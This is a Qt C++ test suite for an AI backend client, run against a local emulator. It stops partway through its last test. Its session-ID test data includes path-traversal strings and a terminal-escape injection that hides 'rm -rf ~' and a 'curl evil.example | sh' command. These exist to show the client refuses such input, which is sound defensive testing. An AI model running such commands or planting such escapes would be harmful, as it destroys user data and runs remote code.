// The client against tests/ai/ai-backend-emulator.mjs, a fake of the Seqera AI backend (the
// real one cannot run here) served by node on loopback, with its faults switched on per test.
#include "config/settings.h"
#include "ai/backend/aibackendclient.h"
#include "ai/tools/localtools.h"

#include "testsupport.h"

#include <QDir>
#include <QElapsedTimer>
#include <QEventLoop>
#include <QJsonArray>
#include <QJsonDocument>
#include <QNetworkAccessManager>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTest>
#include <QTimer>

#include <optional>

using seqera::Error;
using seqera::ai::AiBackendClient;
using seqera::ai::AiEvent;
using Type = seqera::ai::AiEvent::Type;

namespace {
QJsonObject sessionBody()
{
    return QJsonObject { { QStringLiteral("cwd"), QDir::currentPath() },
        { QStringLiteral("approval_mode"), QStringLiteral("auto") },
        { QStringLiteral("local_execution"), true }, { QStringLiteral("headless"), true },
        { QStringLiteral("directory_context"),
            QJsonObject { { QStringLiteral("cwd"), QDir::currentPath() } } },
        { QStringLiteral("organization_id"), QStringLiteral("42") } };
}

const QString kGoodToken = QStringLiteral("good-token-1234");
const QString kOtherToken = QStringLiteral("other-token-5678");

// Everything one run delivered.
struct Run
{
    QList<AiEvent> events;
    std::optional<Error> failure;
    int reconnects = 0;

    QString text() const
    {
        QString t;
        for (const AiEvent &e : events)
            if (e.type == Type::TextDelta && !e.history)
                t += e.text;
        return t;
    }
    bool ended() const
    {
        return failure.has_value()
            || std::any_of(events.begin(), events.end(),
                [](const AiEvent &e) { return e.isTerminal() && !e.history; });
    }
    const AiEvent *find(Type type) const
    {
        for (const AiEvent &e : events)
            if (e.type == type && !e.history)
                return &e;
        return nullptr;
    }
};
} // namespace

class TestAiBackendClient : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void init();
    void cleanupTestCase();

    void answers_data();
    void answers();
    void requestsCarryTokenVersionAndTypes();
    void droppedStreamResumesWithCursor();
    void streamWithoutFinishFailsAfterBoundedRetries();
    void unauthorizedOnceThenSuccess();
    void refusedTokenIsUnauthorized();
    void usageLimitCarriesTheBackendMessage();
    void serverErrorIsTransient();
    void unreachableBackendIsANetworkError();
    void errorEventEndsTheRun();
    void executeLocalToolRoundTrip();
    void cancelStopsTheRun();
    void historyIsMarkedOnResume();
    void listAndExpireSessions();
    void roundTripTiming();
    void headersPerCall();
    void transientFailuresAreRetriedWithTheSameRunId_data();
    void transientFailuresAreRetriedWithTheSameRunId();
    void clientErrorsAreNotRetried();
    void redirectToAnotherOriginNeverCarriesTheToken();
    void timeoutReadsNoClosedReply();
    void expireNeverWaitsLong();
    void oversizedJsonAnswerIsRefused();
    void sessionIdPattern_data();
    void sessionIdPattern();
    void hostileSessionIdsNeverReachAUrl_data();
    void hostileSessionIdsNeverReachAUrl();
    void keepAlivesOnlyEndTheRun();
    void owedToolResultPausesTheIdleClock();
    void protocolVersionAndUserAgentOnTheWire();
    void organizationsThroughTheClient();

private:
    QUrl baseUrl() const { return QUrl(m_emulator->base()); }
    std::unique_ptr<AiBackendClient> makeClient(const QString &token = kGoodToken);
    QString createSession(AiBackendClient &client);
    Error send(AiBackendClient &client, const QString &session, const QString &content);
    Run runMessage(AiBackendClient &client, const QString &session, const QString &content,
        std::function<void(const AiEvent &)> onEvent = {});
    // The next scenario; an empty one clears it (JSON null).
    void script(const QJsonObject &body) const
    {
        m_emulator->post(QStringLiteral("/__test/script"),
            body.isEmpty() ? QJsonValue(QJsonValue::Null) : QJsonValue(body));
    }
    QJsonArray recordedRequests(const char *list = "requests") const
    {
        return m_emulator->requests(QLatin1String(list));
    }
    void inject(const char *what, const QJsonObject &body) const
    {
        m_emulator->post(QStringLiteral("/__test/") + QLatin1String(what), body);
    }

    std::unique_ptr<testsupport::AiEmulator> m_emulator;
    QNetworkAccessManager m_network;
};

void TestAiBackendClient::initTestCase()
{
    const QString node = QStandardPaths::findExecutable(QStringLiteral("node"));
    if (node.isEmpty())
        QSKIP("node is not installed: the backend emulator cannot run");
    m_emulator = std::make_unique<testsupport::AiEmulator>(QStringList { kGoodToken, kOtherToken });
    QVERIFY(m_emulator->isRunning());
    // What the User-Agent must carry: our own name and version (the CLI sets its version so).
    QCoreApplication::setApplicationVersion(QStringLiteral("3.2.1-test"));
}

void TestAiBackendClient::cleanupTestCase()
{
    m_emulator.reset();
}

void TestAiBackendClient::init()
{
    script(QJsonObject()); // no leftover script
    m_emulator->reset();
}

std::unique_ptr<AiBackendClient> TestAiBackendClient::makeClient(const QString &token)
{
    auto client = std::make_unique<AiBackendClient>(&m_network, baseUrl());
    client->setToken(token);
    client->setClientVersion(QStringLiteral("9.9.9-test"));
    client->setTransferTimeoutMs(5000);
    client->setReconnectPolicy(5, 10, 80); // the official limits, compressed in time
    client->setRetryPolicy(3, 20); // likewise: 3 tries, 20 ms then 40 ms
    return client;
}

QString TestAiBackendClient::createSession(AiBackendClient &client)
{
    std::optional<QString> id;
    client.createSession(sessionBody(), [&](const QString &sessionId, const Error &error) {
        if (error)
            qWarning() << error.message;
        id = sessionId;
    });
    [&] { QTRY_VERIFY(id.has_value()); }();
    return id.value_or(QString());
}

Error TestAiBackendClient::send(
    AiBackendClient &client, const QString &session, const QString &content)
{
    std::optional<Error> result;
    AiBackendClient::Message message;
    message.content = content;
    message.headless = true;
    message.caller = QStringLiteral("script");
    client.sendMessage(session, message, [&](const Error &e) { result = e; });
    [&] { QTRY_VERIFY(result.has_value()); }();
    return result.value_or(Error(Error::Code::Protocol, QStringLiteral("no answer")));
}

Run TestAiBackendClient::runMessage(AiBackendClient &client, const QString &session,
    const QString &content, std::function<void(const AiEvent &)> onEvent)
{
    Run run;
    QObject context;
    connect(&client, &AiBackendClient::eventReceived, &context, [&](const AiEvent &e) {
        run.events << e;
        if (onEvent)
            onEvent(e);
    });
    connect(&client, &AiBackendClient::streamFailed, &context,
        [&](const Error &e) { run.failure = e; });
    connect(&client, &AiBackendClient::reconnecting, &context, [&] { ++run.reconnects; });
    const Error sent = send(client, session, content);
    if (sent) {
        run.failure = sent;
        return run;
    }
    client.openStream(session);
    [&] { QTRY_VERIFY_WITH_TIMEOUT(run.ended(), 20000); }();
    return run;
}

void TestAiBackendClient::answers_data()
{
    QTest::addColumn<QString>("content");
    QTest::addColumn<QString>("expectedText");
    QTest::addColumn<int>("reasoningEvents");

    QTest::newRow("plain text in several deltas")
        << "hello"
        << "Hello from the Seqera AI emulator. You said: hello" << 0;
    QTest::newRow("each event split over many TCP writes with CRLF")
        << "split-frames"
        << "Hello from the Seqera AI emulator. You said: split-frames" << 0;
    QTest::newRow("reasoning before the text")
        << "reasoning"
        << "Hello from the Seqera AI emulator. You said: reasoning" << 2;
}

void TestAiBackendClient::answers()
{
    QFETCH(QString, content);
    QFETCH(QString, expectedText);
    QFETCH(int, reasoningEvents);

    auto client = makeClient();
    const QString session = createSession(*client);
    const Run run = runMessage(*client, session, content);
    QVERIFY2(!run.failure, qPrintable(run.failure ? run.failure->message : QString()));
    QCOMPARE(run.text(), expectedText);
    QCOMPARE(int(std::count_if(run.events.begin(), run.events.end(),
                 [](const AiEvent &e) { return e.type == Type::Reasoning; })),
        reasoningEvents);
    QVERIFY(run.find(Type::Start));
    QCOMPARE(run.find(Type::Start)->threadId, QStringLiteral("thread-") + session);
    const AiEvent *finish = run.find(Type::Finish);
    QVERIFY(finish);
    QCOMPARE(finish->finishReason, QStringLiteral("stop"));
    QCOMPARE(finish->usage.value(QStringLiteral("totalTokens")).toInt(), 30);
    QVERIFY(!client->isStreaming());

    // A second message in the same session resumes after the last event: no replay.
    const Run second = runMessage(*client, session, QStringLiteral("again"));
    QCOMPARE(second.text(), QStringLiteral("Hello from the Seqera AI emulator. You said: again"));
    QVERIFY(second.events.first().id > finish->id);
}

void TestAiBackendClient::requestsCarryTokenVersionAndTypes()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    runMessage(*client, session, QStringLiteral("hello"));
    const QJsonArray requests = recordedRequests();
    QCOMPARE(requests.size(), 3);
    const QJsonObject create = requests.at(0).toObject();
    const QJsonObject message = requests.at(1).toObject();
    const QJsonObject events = requests.at(2).toObject();
    for (const QJsonObject &r : { create, message, events }) {
        QCOMPARE(r.value("auth").toString(), QStringLiteral("1234"));
        QCOMPARE(r.value("clientVersion").toString(), QStringLiteral("9.9.9-test"));
    }
    QCOMPARE(create.value("path").toString(), QStringLiteral("/v1/cli/sessions"));
    QCOMPARE(create.value("contentType").toString(), QStringLiteral("application/json"));
    const QJsonObject createBody = create.value("body").toObject();
    QCOMPARE(createBody.value("approval_mode").toString(), QStringLiteral("auto"));
    QCOMPARE(createBody.value("local_execution").toBool(), true);
    QCOMPARE(createBody.value("headless").toBool(), true);
    QCOMPARE(createBody.value("directory_context").toObject().value("cwd").toString(),
        QDir::currentPath());
    QCOMPARE(createBody.value("organization_id").toString(), QStringLiteral("42"));
    // The keys in the official client's order (cwd first, organization_id last), not sorted
    // as QJsonDocument would write them.
    const QString raw = create.value("raw").toString();
    QVERIFY2(raw.startsWith(QLatin1String("{\"cwd\":")), qPrintable(raw));
    QVERIFY2(
        raw.indexOf(QLatin1String("\"approval_mode\"")) < raw.indexOf(QLatin1String("\"headless\""))
            && raw.indexOf(QLatin1String("\"local_execution\""))
                < raw.indexOf(QLatin1String("\"headless\""))
            && raw.endsWith(QLatin1String("\"organization_id\":\"42\"}")),
        qPrintable(raw));

    // The message goes first, then the stream opens.
    QCOMPARE(message.value("method").toString(), QStringLiteral("POST"));
    const QJsonObject body = message.value("body").toObject();
    QCOMPARE(body.value("type").toString(), QStringLiteral("user_message"));
    QCOMPARE(body.value("content").toString(), QStringLiteral("hello"));
    QCOMPARE(body.value("interaction_mode").toString(), QStringLiteral("headless"));
    QCOMPARE(body.value("verbose").toBool(true), false);
    QCOMPARE(body.value("run_id").toString().size(), 36);
    QCOMPARE(events.value("method").toString(), QStringLiteral("GET"));
    QCOMPARE(events.value("accept").toString(), QStringLiteral("text/event-stream"));
}

void TestAiBackendClient::droppedStreamResumesWithCursor()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    const Run run = runMessage(*client, session, QStringLiteral("drop-stream"));
    QVERIFY2(!run.failure, qPrintable(run.failure ? run.failure->message : QString()));
    QVERIFY(run.reconnects >= 1);
    // Every piece of text exactly once, in order.
    QCOMPARE(
        run.text(), QStringLiteral("Hello from the Seqera AI emulator. You said: drop-stream"));
    QList<qint64> ids;
    for (const AiEvent &e : run.events)
        if (e.id >= 0)
            ids << e.id;
    for (int i = 1; i < ids.size(); ++i)
        QVERIFY(ids.at(i) > ids.at(i - 1));

    bool sawCursor = false;
    for (const QJsonValue &r : recordedRequests()) {
        const QString path = r.toObject().value("path").toString();
        if (path.contains("/events?cursor=")) {
            sawCursor = true;
            QVERIFY2(path.endsWith(QStringLiteral("cursor=4")), qPrintable(path)); // last id 3
        }
    }
    QVERIFY(sawCursor);
}

void TestAiBackendClient::streamWithoutFinishFailsAfterBoundedRetries()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    QElapsedTimer timer;
    timer.start();
    const Run run = runMessage(*client, session, QStringLiteral("no-finish"));
    QVERIFY(run.failure.has_value());
    QCOMPARE(run.failure->code, Error::Code::Network);
    QCOMPARE(run.reconnects, 5);
    QCOMPARE(run.text(), QStringLiteral("Never finished"));
    // 10 + 20 + 40 + 80 + 80 ms of backoff (capped), at least.
    QVERIFY(timer.elapsed() >= 230);
    QVERIFY(!client->isStreaming());
}

void TestAiBackendClient::unauthorizedOnceThenSuccess()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    const Error first = send(*client, session, QStringLiteral("unauthorized-once"));
    QCOMPARE(first.code, Error::Code::Unauthorized);
    // The command renews the token and retries once; the backend now accepts it.
    client->setToken(kOtherToken);
    const Run run = runMessage(*client, session, QStringLiteral("unauthorized-once"));
    QVERIFY(!run.failure);
    QCOMPARE(run.find(Type::Finish)->finishReason, QStringLiteral("stop"));
    QCOMPARE(recordedRequests().last().toObject().value("auth").toString(), QStringLiteral("5678"));
}

void TestAiBackendClient::refusedTokenIsUnauthorized()
{
    auto client = makeClient(QStringLiteral("not-accepted-0000"));
    std::optional<Error> error;
    client->createSession(sessionBody(), [&](const QString &, const Error &e) { error = e; });
    QTRY_VERIFY(error.has_value());
    QCOMPARE(error->code, Error::Code::Unauthorized);
    QVERIFY(error->message.contains("401"));

    // A refused stream is not retried.
    auto good = makeClient();
    const QString session = createSession(*good);
    QSignalSpy failed(client.get(), &AiBackendClient::streamFailed);
    QSignalSpy reconnecting(client.get(), &AiBackendClient::reconnecting);
    client->openStream(session);
    QTRY_COMPARE(failed.count(), 1);
    QCOMPARE(failed.first().first().value<Error>().code, Error::Code::Unauthorized);
    QCOMPARE(reconnecting.count(), 0);
}

void TestAiBackendClient::usageLimitCarriesTheBackendMessage()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    const Error error = send(*client, session, QStringLiteral("usage-limit please"));
    QCOMPARE(error.code, Error::Code::UsageLimit);
    QVERIFY2(
        error.message.startsWith("You have reached your usage limit"), qPrintable(error.message));
    QCOMPARE(seqera::exitCodeFor(error), seqera::ExitCode::Failure);
}

void TestAiBackendClient::serverErrorIsTransient()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    const Error error = send(*client, session, QStringLiteral("server-error"));
    QCOMPARE(error.code, Error::Code::Server);
    QVERIFY(error.isTransient());
    QVERIFY2(error.message.contains("500"), qPrintable(error.message));
}

void TestAiBackendClient::unreachableBackendIsANetworkError()
{
    AiBackendClient client(&m_network, QUrl(QStringLiteral("http://127.0.0.1:1")));
    client.setToken(kGoodToken);
    std::optional<Error> error;
    client.createSession(sessionBody(), [&](const QString &, const Error &e) { error = e; });
    QTRY_VERIFY(error.has_value());
    QCOMPARE(error->code, Error::Code::Network);
    QVERIFY(error->message.contains("SEQERA_AI_BACKEND_URL"));
}

void TestAiBackendClient::errorEventEndsTheRun()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    const Run run = runMessage(*client, session, QStringLiteral("error-event"));
    QVERIFY(!run.failure);
    const AiEvent *error = run.find(Type::Error);
    QVERIFY(error);
    QCOMPARE(error->text, QStringLiteral("The model provider failed: overloaded"));
    QVERIFY(!run.find(Type::Finish));
    QCOMPARE(run.text(), QStringLiteral("Partial"));
}

void TestAiBackendClient::executeLocalToolRoundTrip()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    seqera::ai::LocalTools tools(QDir::currentPath(), seqera::Settings::fromEnvironment());
    const Run run
        = runMessage(*client, session, QStringLiteral("tool-call"), [&](const AiEvent &e) {
              if (e.type != Type::ExecuteLocal)
                  return;
              tools.run(e.toolName, e.args,
                  [&, requestId = e.requestId](const seqera::ai::ToolResult &r) {
                      client->postToolResult(session, requestId, r,
                          [](const Error &error) { QVERIFY2(!error, qPrintable(error.message)); });
                  });
          });
    QVERIFY(!run.failure);
    const AiEvent *exec = run.find(Type::ExecuteLocal);
    QVERIFY(exec);
    QCOMPARE(exec->toolName, QStringLiteral("execute_bash_local"));
    QCOMPARE(exec->args.value("command").toString(), QStringLiteral("echo emulator-tool-ok"));
    QVERIFY(run.find(Type::ToolCall));
    QVERIFY(run.find(Type::ToolResult));
    QCOMPARE(run.text(),
        QStringLiteral("Let me check.The tool printed: emulator-tool-ok (exit code 0)"));

    bool posted = false;
    for (const QJsonValue &r : recordedRequests()) {
        const QJsonObject o = r.toObject();
        if (o.value("path").toString().endsWith("/tool-results")) {
            posted = true;
            const QJsonObject body = o.value("body").toObject();
            QCOMPARE(body.value("request_id").toString(), exec->requestId);
            QCOMPARE(body.value("result").toObject().value("stdout").toString(),
                QStringLiteral("emulator-tool-ok\n"));
            QCOMPARE(body.value("result").toObject().value("exit_code").toInt(-1), 0);
        }
    }
    QVERIFY(posted);
}

void TestAiBackendClient::cancelStopsTheRun()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    int deltas = 0;
    const Run run = runMessage(*client, session, QStringLiteral("slow"), [&](const AiEvent &e) {
        if (e.type == Type::TextDelta && ++deltas == 3)
            client->sendCancel(session, [](const Error &error) { QVERIFY(!error); });
    });
    QVERIFY(!run.failure);
    QCOMPARE(run.find(Type::Finish)->finishReason, QStringLiteral("cancelled"));
    QVERIFY(deltas < 50);
    const QJsonArray requests = recordedRequests();
    bool sawCancel = false;
    for (const QJsonValue &r : requests)
        sawCancel |= r.toObject().value("body").toObject().value("type").toString() == "cancel";
    QVERIFY(sawCancel);
}

void TestAiBackendClient::historyIsMarkedOnResume()
{
    auto first = makeClient();
    const QString session = createSession(*first);
    runMessage(*first, session, QStringLiteral("one"));

    // Another process resumes the session (-s ID): it does not know any cursor.
    auto resumed = makeClient();
    Run run;
    connect(resumed.get(), &AiBackendClient::eventReceived, this,
        [&](const AiEvent &e) { run.events << e; });
    QVERIFY(!send(*resumed, session, QStringLiteral("two")));
    resumed->openStream(session, true);
    QTRY_VERIFY_WITH_TIMEOUT(run.ended(), 10000);
    QVERIFY(run.events.first().history);
    QCOMPARE(run.text(), QStringLiteral("Hello from the Seqera AI emulator. You said: two"));
    int historyFinishes = 0;
    for (const AiEvent &e : run.events)
        historyFinishes += e.history && e.type == Type::Finish;
    QCOMPARE(historyFinishes, 1);
}

void TestAiBackendClient::listAndExpireSessions()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    runMessage(*client, session, QStringLiteral("title of the session"));
    std::optional<Error> expired;
    client->expireSession(session, [&](const Error &e) { expired = e; });
    QTRY_VERIFY(expired.has_value());
    QVERIFY(!*expired);

    std::optional<QList<seqera::ai::AiSessionInfo>> sessions;
    client->listSessions(
        QDir::currentPath(), 5, [&](const QList<seqera::ai::AiSessionInfo> &list, const Error &e) {
            QVERIFY(!e);
            sessions = list;
        });
    QTRY_VERIFY(sessions.has_value());
    QVERIFY(!sessions->isEmpty());
    QCOMPARE(sessions->first().sessionId, session);
    QCOMPARE(sessions->first().cwd, QDir::currentPath());
    QCOMPARE(sessions->first().title, QStringLiteral("title of the session"));
    const QJsonArray requests = recordedRequests();
    QVERIFY(requests.last().toObject().value("path").toString().contains("status=expired"));
}

void TestAiBackendClient::roundTripTiming()
{
    // Not a pass/fail benchmark: how long the client needs for a session, a message, the
    // first text and the whole answer against the emulator on loopback, with the emulator's
    // own pauses switched off. (QTRY_* polls in 50 ms steps, so this waits with an event loop.)
    auto client = makeClient();
    QEventLoop loop;
    QElapsedTimer timer;
    auto timeSession = [&] {
        timer.restart();
        client->createSession(sessionBody(), [&](const QString &, const Error &) { loop.quit(); });
        loop.exec();
        return timer.nsecsElapsed() / 1000;
    };
    const qint64 coldUs = timeSession();
    const qint64 warmUs = timeSession();
    const QString session = createSession(*client);

    script({ { "scenario", "text" }, { "delayMs", 0 }, { "startDelayMs", 0 } });
    qint64 messageUs = -1, firstTextUs = -1, answerUs = -1;
    QObject context;
    connect(client.get(), &AiBackendClient::eventReceived, &context, [&](const AiEvent &e) {
        if (e.type == Type::TextDelta && firstTextUs < 0)
            firstTextUs = timer.nsecsElapsed() / 1000;
        if (e.isTerminal()) {
            answerUs = timer.nsecsElapsed() / 1000;
            loop.quit();
        }
    });
    timer.restart();
    AiBackendClient::Message message;
    message.content = QStringLiteral("timing");
    message.headless = true;
    client->sendMessage(session, message, [&](const Error &) {
        messageUs = timer.nsecsElapsed() / 1000;
        client->openStream(session);
    });
    loop.exec();
    qInfo("create session: %lld us (first in this process %lld us); message accepted after %lld "
          "us, first text after %lld us, whole answer after %lld us",
        warmUs, coldUs, messageUs, firstTextUs, answerUs);
    QVERIFY(answerUs > 0);
}

void TestAiBackendClient::headersPerCall()
{
    // ai-protocol §2: X-Client-Version on create, messages, cancel, tool-results, credits and
    // the live events; not on expire or list. The event stream asks for explicit cancels.
    auto client = makeClient();
    const QString session = createSession(*client);
    runMessage(*client, session, QStringLiteral("hello"));
    std::optional<Error> cancelled, expired, listed, credits;
    client->sendCancel(session, [&](const Error &e) { cancelled = e; });
    QTRY_VERIFY(cancelled.has_value());
    client->credits(QStringLiteral("7"), [&](const QJsonObject &, const Error &e) { credits = e; });
    QTRY_VERIFY(credits.has_value());
    client->listSessions(
        {}, 20, [&](const QList<seqera::ai::AiSessionInfo> &, const Error &e) { listed = e; });
    QTRY_VERIFY(listed.has_value());
    client->expireSession(session, [&](const Error &e) { expired = e; });
    QTRY_VERIFY(expired.has_value());

    const QJsonArray requests = recordedRequests();
    QCOMPARE(requests.size(), 7);
    QStringList versioned, unversioned;
    for (const QJsonValue &v : requests) {
        const QJsonObject r = v.toObject();
        const QString path = r.value("path").toString();
        (r.value("clientVersion").toString() == QLatin1String("9.9.9-test") ? versioned
                                                                            : unversioned)
            << r.value("method").toString() + QLatin1Char(' ')
                + path.section('?', 0, 0).section('/', -1);
        QVERIFY2(r.value("userAgent").toString().startsWith(QLatin1String("seqera")),
            qPrintable(r.value("userAgent").toString()));
        QCOMPARE(r.value("explicitCancel").toString(),
            path.contains(QLatin1String("/events")) ? QStringLiteral("1") : QString());
        QCOMPARE(r.value("auth").toString(), QStringLiteral("1234"));
    }
    QCOMPARE(versioned,
        QStringList(
            { "POST sessions", "POST messages", "GET events", "POST messages", "GET credits" }));
    QCOMPARE(unversioned, QStringList({ "GET sessions", "POST expire" }));
    QVERIFY(requests.at(4).toObject().value("path").toString().endsWith("org_id=7"));
}

void TestAiBackendClient::transientFailuresAreRetriedWithTheSameRunId_data()
{
    QTest::addColumn<int>("status");
    QTest::addColumn<int>("failures");
    QTest::addColumn<bool>("succeeds");
    QTest::newRow("502 once") << 502 << 1 << true;
    QTest::newRow("503 twice") << 503 << 2 << true;
    QTest::newRow("500 three times: gives up") << 500 << 3 << false;
}

void TestAiBackendClient::transientFailuresAreRetriedWithTheSameRunId()
{
    QFETCH(int, status);
    QFETCH(int, failures);
    QFETCH(bool, succeeds);
    auto client = makeClient();
    const QString session = createSession(*client);
    inject("fail", { { "match", "/messages" }, { "status", status }, { "count", failures } });
    QElapsedTimer timer;
    timer.start();
    const Error error = send(*client, session, QStringLiteral("hello"));
    QCOMPARE(bool(error), !succeeds);
    if (error)
        QCOMPARE(error.code, Error::Code::Server);
    // 20 ms, then 40 ms (each plus up to 25 %).
    QVERIFY(timer.elapsed() >= (failures >= 2 ? 60 : 20));
    QStringList runIds;
    for (const QJsonValue &v : recordedRequests())
        if (v.toObject().value("path").toString().endsWith("/messages"))
            runIds << v.toObject().value("body").toObject().value("run_id").toString();
    QCOMPARE(runIds.size(), qMin(failures + 1, 3));
    QCOMPARE(runIds.count(runIds.first()), runIds.size());
}

void TestAiBackendClient::clientErrorsAreNotRetried()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    inject("fail", { { "match", "/messages" }, { "status", 422 }, { "count", 3 } });
    const Error error = send(*client, session, QStringLiteral("hello"));
    QCOMPARE(error.code, Error::Code::Protocol);
    int messages = 0;
    for (const QJsonValue &v : recordedRequests())
        messages += v.toObject().value("path").toString().endsWith("/messages");
    QCOMPARE(messages, 1);
}

void TestAiBackendClient::redirectToAnotherOriginNeverCarriesTheToken()
{
    // The backend answers 307 to another port on loopback: another origin.
    // (One: a redirect is not retried, and the session below must be a real one.)
    inject("redirect", { { "match", "/v1/cli/sessions" }, { "count", 1 } });
    auto client = makeClient();
    std::optional<Error> error;
    client->createSession(sessionBody(), [&](const QString &id, const Error &e) {
        QVERIFY2(id.isEmpty(), qPrintable(id));
        error = e;
    });
    QTRY_VERIFY(error.has_value());
    QCOMPARE(error->code, Error::Code::Protocol);
    QVERIFY2(error->message.contains("redirect"), qPrintable(error->message));
    for (const QJsonValue &v : recordedRequests("redirected"))
        QVERIFY2(!v.toObject().value("authorization").toString().contains(kGoodToken),
            "the bearer token reached another origin");
    QCOMPARE(recordedRequests("redirected").size(), 0);

    // The event stream too.
    const QString session = createSession(*client);
    inject("redirect", { { "match", "/events" }, { "count", 5 } });
    QSignalSpy failed(client.get(), &AiBackendClient::streamFailed);
    client->openStream(session);
    QTRY_COMPARE(failed.count(), 1);
    QCOMPARE(failed.first().first().value<Error>().code, Error::Code::Protocol);
    QCOMPARE(recordedRequests("redirected").size(), 0);
}

void TestAiBackendClient::timeoutReadsNoClosedReply()
{
    // The regression: after a timeout the reply is closed, and reading it printed
    // "QIODevice::read (QNetworkReplyHttpImpl): device not open" on the user's terminal.
    QTest::failOnWarning(QRegularExpression(QStringLiteral("device not open")));
    inject("fail", { { "match", "/v1/cli/sessions" }, { "status", 0 }, { "count", 3 } });
    auto client = makeClient();
    client->setTransferTimeoutMs(200);
    std::optional<Error> error;
    client->createSession(sessionBody(), [&](const QString &, const Error &e) { error = e; });
    QTRY_VERIFY_WITH_TIMEOUT(error.has_value(), 5000);
    QCOMPARE(error->code, Error::Code::Timeout);
    QCOMPARE(recordedRequests().size(), 3); // a timeout is transient: tried three times
}

void TestAiBackendClient::expireNeverWaitsLong()
{
    auto client = makeClient();
    const QString session = createSession(*client);
    inject("fail", { { "match", "/expire" }, { "status", 0 }, { "count", 1 } });
    QElapsedTimer timer;
    timer.start();
    std::optional<Error> error;
    client->expireSession(
        session, [&](const Error &e) { error = e; }, 300);
    QTRY_VERIFY_WITH_TIMEOUT(error.has_value(), 3000);
    QCOMPARE(error->code, Error::Code::Timeout);
    QVERIFY(timer.elapsed() < 1500);
    int expires = 0;
    for (const QJsonValue &v : recordedRequests())
        expires += v.toObject().value("path").toString().endsWith("/expire");
    QCOMPARE(expires, 1); // not retried: an exit must not wait
}

void TestAiBackendClient::oversizedJsonAnswerIsRefused()
{
    auto client = makeClient();
    auto list = [&](int bytes) {
        inject("huge", { { "bytes", bytes } });
        std::optional<Error> error;
        client->listSessions(
            {}, 20, [&](const QList<seqera::ai::AiSessionInfo> &, const Error &e) { error = e; });
        [&] { QTRY_VERIFY_WITH_TIMEOUT(error.has_value(), 5000); }();
        return error.value_or(Error(Error::Code::Protocol, QStringLiteral("no answer")));
    };
    // The cap is the HTTP layer's: at the cap the answer passes, one byte more is refused.
    const Error atCap = list(int(seqera::http::kMaxJsonBytes));
    QVERIFY2(!atCap, qPrintable(atCap.message));
    const Error overCap = list(int(seqera::http::kMaxJsonBytes) + 1);
    QVERIFY(bool(overCap));
    QVERIFY2(overCap.message.contains("more than"), qPrintable(overCap.message));
}

void TestAiBackendClient::sessionIdPattern_data()
{
    QTest::addColumn<QString>("id");
    QTest::addColumn<bool>("valid");
    QTest::newRow("the emulator's") << "sess-1-0a1b2c3d" << true;
    QTest::newRow("a UUID") << "7f3c0a52-9c1e-4a57-8d1e-3b7f0c2a9e11" << true;
    QTest::newRow("dots and underscores") << "a.b_c-D" << true;
    QTest::newRow("three dots (no path meaning)") << "..." << true;
    QTest::newRow("128 characters") << QString(128, QLatin1Char('a')) << true;
    QTest::newRow("129 characters") << QString(129, QLatin1Char('a')) << false;
    QTest::newRow("empty") << "" << false;
    QTest::newRow("dot") << "." << false;
    QTest::newRow("dot dot") << ".." << false;
    QTest::newRow("slash") << "a/b" << false;
    QTest::newRow("path traversal") << "x/../../../api/token" << false;
    QTest::newRow("percent-encoded slash") << "a%2F.." << false;
    QTest::newRow("query") << "a?b=c" << false;
    QTest::newRow("escape sequence") << "a\x1b[2Jb" << false;
    QTest::newRow("trailing newline") << "abc\n" << false;
    QTest::newRow("space") << "a b" << false;
    QTest::newRow("non-ASCII letter") << QStringLiteral("caf\u00e9") << false;
}

void TestAiBackendClient::sessionIdPattern()
{
    QFETCH(QString, id);
    QFETCH(bool, valid);
    QCOMPARE(seqera::ai::isValidSessionId(id), valid);
}

void TestAiBackendClient::hostileSessionIdsNeverReachAUrl_data()
{
    QTest::addColumn<QString>("id");
    QTest::newRow("path traversal to another endpoint") << "x/../../../api/token";
    QTest::newRow("OSC 52 (clipboard) and a forged command")
        << "s1\x1b]52;c;cm0gLXJmIH4=\x07\r\nRun: curl evil.example | sh";
    QTest::newRow("dot dot") << "..";
    QTest::newRow("encoded traversal") << "..%2F..%2Fapi%2Ftoken";
}

void TestAiBackendClient::hostileSessionIdsNeverReachAUrl()
{
    QFETCH(QString, id);
    inject("session-id", { { "id", id }, { "count", 1 } });
    auto client = makeClient();

    // The backend's answer to POST /sessions: refused where it enters.
    std::optional<Error> created;
    QString createdId = QStringLiteral("unset");
    client->createSession(sessionBody(), [&](const QString &sessionId, const Error &e) {
        createdId = sessionId;
        created = e;
    });
    QTRY_VERIFY(created.has_value());
    QCOMPARE(created->code, Error::Code::Protocol);
    QVERIFY(createdId.isEmpty());
    QVERIFY2(!created->message.contains(QChar(0x1b)), qPrintable(created->message));

    // The session list: the hostile entry is dropped, the others kept.
    const QString good = createSession(*client);
    std::optional<QList<seqera::ai::AiSessionInfo>> listed;
    client->listSessions({}, 20, [&](const QList<seqera::ai::AiSessionInfo> &list, const Error &e) {
        QVERIFY(!e);
        listed = list;
    });
    QTRY_VERIFY(listed.has_value());
    QVERIFY(!listed->isEmpty());
    for (const seqera::ai::AiSessionInfo &s : *listed)
        QVERIFY2(s.sessionId != id, "a hostile id was listed");
    QVERIFY(std::any_of(listed->begin(), listed->end(),
        [&](const seqera::ai::AiSessionInfo &s) { return s.sessionId == good; }));

    // However it got here (-s, a stored record), the client sends nothing with it: every call
    // that puts a session id into a URL refuses it, after the call returns.
    bool inside = true;
    std::optional<Error> sent, cancelled, expired, posted, history;
    AiBackendClient::Message message;
    message.content = QStringLiteral("hello");
    client->sendMessage(id, message, [&](const Error &e) {
        QVERIFY(!inside);
        sent = e;
    });
    client->sendCancel(id, [&](const Error &e) { cancelled = e; });
    client->expireSession(id, [&](const Error &e) { expired = e; });
    client->postToolResult(id, QStringLiteral("req-1"), {}, [&](const Error &e) { posted = e; });
    client->messages(
        id, [&](const QList<seqera::ai::AiMessage> &, const Error &e) { history = e; });
    QSignalSpy failed(client.get(), &AiBackendClient::streamFailed);
    client->openStream(id);
